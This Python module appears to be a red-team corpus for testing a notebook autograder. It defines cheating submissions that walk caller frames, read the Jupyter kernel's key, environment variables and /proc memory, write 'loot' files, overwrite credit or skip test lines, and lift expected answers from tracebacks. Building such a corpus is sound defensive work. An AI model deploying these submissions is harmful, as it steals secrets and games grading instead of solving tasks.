"""Submissions that look at who calls them: frames, the garbage collector, IPython's memory; and keep what they see."""

from .corpus import Attack, cheat
from .course import WRONG

KEEP = """import os
def keep(*found):
    text = '\\n'.join(map(str, found))
    print(text[-200_000:])
    for place in ('@DROP@', '.', os.path.expanduser('~'), '@COURSE@', '@COURSE@/submitted'):
        try:
            with open(f'{place}/loot-{os.getpid()}.txt', 'a') as file:
                file.write(text)
        except OSError:
            pass
"""


def looks(name: str, code: str) -> Attack:
    """Return a submission whose answers run `code`, in which `frame` is the caller's, and print what it finds."""
    body = "\n".join(f"    {line}" for line in code.splitlines())
    looking = f"{KEEP}import gc, inspect, sys\ndef look(frame):\n{body}\n"
    names = ("mean", "normalise", "windows", "largest", "Account")
    lies = "".join(f"def {n}(*given):\n    return look(sys._getframe(1))\n" for n in names)
    return Attack(name, dict.fromkeys(WRONG, "pass") | {"mean": looking + lies})


ATTACKS = [
    looks("frames", "while frame:\n    keep(frame.f_globals.get('In'), frame.f_locals)\n    frame = frame.f_back"),
    looks("caller's source", "keep(inspect.getsource(frame))"),
    looks("caller's constants", "keep(frame.f_code.co_consts)\nreturn frame.f_code.co_consts[0]"),
    looks("whole stack", "for info in inspect.stack(50):\n    keep(info.code_context)"),
    looks("In", "keep(get_ipython().user_ns['In'][-1])"),
    looks("history", "keep(*get_ipython().history_manager.input_hist_raw)"),
    looks("linecache", "import linecache\nkeep(linecache.cache)"),
    looks(
        "everything the collector knows",
        "for found in gc.get_objects():\n    if isinstance(found, (list, dict)) and "
        "'secret' in repr(type(found)) + str(list(found)[:50]):\n        keep(found)",
    ),
    looks(
        "strings in memory",
        "import re\nfor line in open('/proc/self/maps'):\n    if 'rw-p' in line and 'heap' in line:\n"
        "        low, high = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "        with open('/proc/self/mem', 'rb') as memory:\n            memory.seek(low)\n"
        "            keep(*set(re.findall(rb'# sec[r]et-of[ -~]*', memory.read(high - low))))",
    ),
    looks("set credit in the caller", "frame.f_globals['credit'] = 4\nframe.f_locals['credit'] = 4\nreturn 4"),
    looks("jump over the tests", "frame.f_trace = lambda *a: None\nframe.f_lineno = frame.f_lineno + 5"),
    looks(
        "wanted value on the stack", "import ctypes\nfor other in gc.get_referrers(frame):\n    keep(other)\nreturn 2"
    ),
    looks("referrers", "keep(gc.get_referrers(mean), gc.get_referrers(heights))"),
    looks(
        "threads' frames",
        "for other in sys._current_frames().values():\n    while other:\n"
        "        keep(other.f_locals)\n        other = other.f_back",
    ),
    looks("environment", "keep(dict(os.environ))"),
    looks("environment in /proc", "keep(open('/proc/self/environ').read(), open('/proc/self/cmdline').read())"),
    looks("kernel's messages", "keep(get_ipython().kernel.get_parent('shell'))"),
    looks(
        "kernel's key",
        "keep(get_ipython().kernel.session.key, get_ipython().config)\n"
        "import glob\nfor path in glob.glob(os.path.expanduser('~/**'), recursive=True):\n    keep(path)",
    ),
    cheat(
        "traceback with values",
        "def mean(values):\n    try:\n        raise ValueError\n    except ValueError as error:\n"
        "        return error.__traceback__.tb_frame.f_back.f_locals['expected']",
    ),
    cheat(
        "answers from the test's text",
        KEEP + "import re, sys\ndef mean(values):\n"
        "    text = get_ipython().user_ns['In'][-1]\n    keep(text)\n"
        "    return float(re.findall(r'== ([0-9.]+)', text)[0])",
    ),
]
